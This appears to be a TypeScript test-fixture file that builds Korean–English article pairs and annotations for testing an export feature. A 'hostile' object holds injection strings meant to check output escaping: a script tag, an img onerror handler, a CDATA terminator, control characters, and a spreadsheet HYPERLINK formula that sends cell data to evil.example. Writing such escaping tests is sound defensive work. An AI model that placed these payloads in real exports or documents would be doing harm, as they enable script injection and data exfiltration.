// Pairs to export: the two translated seed pairs, compared as the app compares them, and a hostile pair whose
// text tries every way out of its format. Annotations are built directly, as the review will place them.
import { compareArticles } from '../../../shared/lib/compare/compare-articles'
import { contentHash } from '../../../shared/lib/ingest/content-hash'
import type { AnnotationStatus, AnnotationTarget, PlacedAnnotation } from '../../../shared/models/annotation'
import type { Article } from '../../../shared/models/article'
import type { ExportPair } from '../../../shared/models/export'
import { seedPair, type SeedPairName } from '../../../scripts/bench/seed-pairs'

export function seedExportPair(name: SeedPairName, annotations: readonly PlacedAnnotation[] = []): ExportPair {
  const { ko, en } = seedPair(name)
  return { ko, en, comparison: compareArticles(ko, en), annotations }
}

function article(id: string, lang: 'ko' | 'en', title: string, paragraphs: string[]): Article {
  let at = title.length + 1
  const paragraphSpans = paragraphs.map((p) => {
    const span = { start: at, end: at + p.length }
    at = span.end + 1
    return span
  })
  return {
    id,
    contentHash: contentHash([title, ...paragraphs].join("\n")),
    source: `hostile/${id.split('#')[0]}`,
    site: 'unknown',
    title,
    lang,
    publishedAt: '2025-02-02T16:14:19+09:00',
    byline: lang === 'ko' ? '<b>기자</b> & "편집"' : null,
    translator: null,
    paragraphs,
    titleSpan: { start: 0, end: title.length },
    paragraphSpans,
  }
}

/** Text that breaks a careless writer: markup, entities, CDATA ends, formula starts, controls, a lone surrogate. */
export const hostile = {
  script: '<script>window.__pwned = 1</script>',
  img: '<img src="http://127.0.0.1:9/pixel.png" onerror="window.__pwned = 2">',
  amp: 'AT&T &amp; &#x3C;tag&#x3E;',
  cdataEnd: ']]>',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  controls: 'bell\u0007 vtab\u000b nul\u0000 lone\uD800 ok\uFFFE',
}

/** A pair whose every sentence carries hostile text; the English drops the third Korean sentence. */
export function hostileExportPair(annotations: readonly PlacedAnnotation[] = []): ExportPair {
  // File names may hold quotes, ampersands and angle brackets too: ids and sources end up in attributes.
  const ko = article(`evil "ko" <&'>.html#0`, 'ko', `${hostile.script} 제목 & "따옴표"`, [
    `미국 정부는 ${hostile.script} 6710억 달러를 투자했다.`,
    `${hostile.formula} 셀은 수식으로 시작한다.`,
    `넷스코프에 따르면 ${hostile.img} 고객사 중 52%가 이미 접속을 차단했다.`,
    `+82 번호와 @멘션과 -5도와 ${hostile.amp} ${hostile.cdataEnd} 그리고 ${hostile.controls} 문장.`,
  ])
  const en = article(`evil "en" <&'>.html#0`, 'en', `${hostile.script} Title & "quotes"`, [
    `The U.S. government invested ${hostile.script} 67.1 billion dollars.`,
    `${hostile.formula} The cell starts with a formula.`,
    `+82 numbers, @mentions, -5 degrees, ${hostile.amp} ${hostile.cdataEnd} and ${hostile.controls} sentence.`,
  ])
  return { ko, en, comparison: compareArticles(ko, en), annotations }
}

let nextId = 1

/** A placed annotation on the given links (a note) or on a finding (a verdict when `status` says so). */
export function placedAnnotation(options: {
  readonly pair: ExportPair
  readonly linkIds?: readonly string[]
  readonly finding?: { readonly id: string; readonly kind: string }
  readonly status?: AnnotationStatus | null
  readonly note?: string
  readonly tags?: readonly string[]
  readonly orphaned?: boolean
  readonly quote?: string
  readonly updatedAt?: string
}): PlacedAnnotation {
  const target: AnnotationTarget = options.finding
    ? { kind: 'finding', findingId: options.finding.id, findingKind: options.finding.kind }
    : options.linkIds?.length
      ? { kind: 'link', linkId: options.linkIds[0] }
      : { kind: 'text' }
  const anchor = { side: 'ko' as const, paragraph: 0, start: 0, end: (options.quote ?? 'quote').length, quote: options.quote ?? 'quote', prefix: '', suffix: '' }
  const time = options.updatedAt ?? '2026-12-01T10:00:00.000Z'
  return {
    id: `a${nextId++}`,
    ko: options.pair.ko.id,
    en: options.pair.en.id,
    target,
    anchors: [anchor],
    note: options.note ?? '',
    tags: options.tags ?? [],
    status: options.status ?? null,
    createdAt: time,
    updatedAt: time,
    placement: {
      orphaned: options.orphaned ?? false,
      anchors: options.orphaned ? [] : [anchor],
      linkIds: options.orphaned ? [] : (options.linkIds ?? []),
      findingId: options.finding && !options.orphaned ? options.finding.id : null,
    },
  }
}

/**
 * The deepseek seed pair with a review: the first figure finding confirmed with a note, a second finding (if
 * any) dismissed, a hostile note on the first link and an orphaned note.
 */
export function reviewedSeedPair(): { pair: ExportPair; confirmedFindingId: string; noteLinkId: string } {
  const base = seedExportPair('deepseek')
  const [first, second] = base.comparison.findings
  if (!first) throw new Error('the deepseek seed pair should raise a finding')
  const noteLinkId = base.comparison.links[0].id
  const annotations = [
    placedAnnotation({ pair: base, finding: first, status: 'error', note: `Date dropped ${hostile.script}`, tags: ['date'] }),
    ...(second ? [placedAnnotation({ pair: base, finding: second, status: 'false-alarm', note: 'fine as is' })] : []),
    placedAnnotation({ pair: base, linkIds: [noteLinkId], note: `Check the headline & ${hostile.img}`, status: 'question' }),
    placedAnnotation({ pair: base, orphaned: true, note: 'about a sentence since edited', quote: '사라진 문장 <i>' }),
  ]
  return { pair: { ...base, annotations }, confirmedFindingId: first.id, noteLinkId }
}
